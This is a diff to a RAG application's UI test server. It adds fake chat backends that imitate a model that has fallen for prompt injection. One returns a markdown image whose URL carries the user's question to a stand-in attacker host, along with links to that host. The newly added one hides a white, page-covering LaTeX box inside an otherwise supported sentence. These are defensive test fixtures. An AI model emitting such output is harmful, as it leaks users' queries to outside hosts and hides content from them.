@@ -2,6 +2,9 @@
 ``injected`` answers like a model that fell for a prompt injection (a markdown image whose URL
 carries the question, and a link to an outside host) inside an otherwise supported sentence.
 
+``latex`` hides a page-covering LaTeX box (``\\rule{\\textwidth}{\\textheight}``) in a supported sentence
+(no number in it, so the fact check lets the sentence through to the page).
+
 Usage: python tests/ui/ui_server.py PORT  (settings from the RAG_ environment variables)
 """
 
@@ -9,7 +12,7 @@ from __future__ import annotations
 
 import re
 import sys
-from urllib.parse import quote
+from urllib.parse import quote_plus
 
 from rag import register
 from rag.fakes import FakeCitingChatModel
@@ -25,12 +28,22 @@ class InjectedChatModel(FakeCitingChatModel):
         source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', prompt, re.DOTALL)
         question = prompt.rsplit("Question:", 1)[-1].strip()
         first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
-        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote(question)}) [1]. "
+        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote_plus(question.rstrip('?'))}) [1]. "
                 f"See [the details](http://{EVIL}/more) and http://{EVIL}/raw for more [1].")
+
+
+class LatexChatModel(FakeCitingChatModel):
+    """Copies the first source sentence and hides a page-covering LaTeX box in it."""
+
+    def _answer(self, messages) -> str:
+        source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', str(messages[-1].content), re.DOTALL)
+        first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
+        return f"{first} $$\\color{{white}}{{\\Huge\\rule{{\\textwidth}}{{\\textheight}}}}$$ [1]."
 
 
 if __name__ == "__main__":
     register("injected", lambda settings: ChatModelBackend("injected", InjectedChatModel()))
+    register("latex", lambda settings: ChatModelBackend("latex", LatexChatModel()))
     from ui.server import serve
 
     serve(port=int(sys.argv[1]))
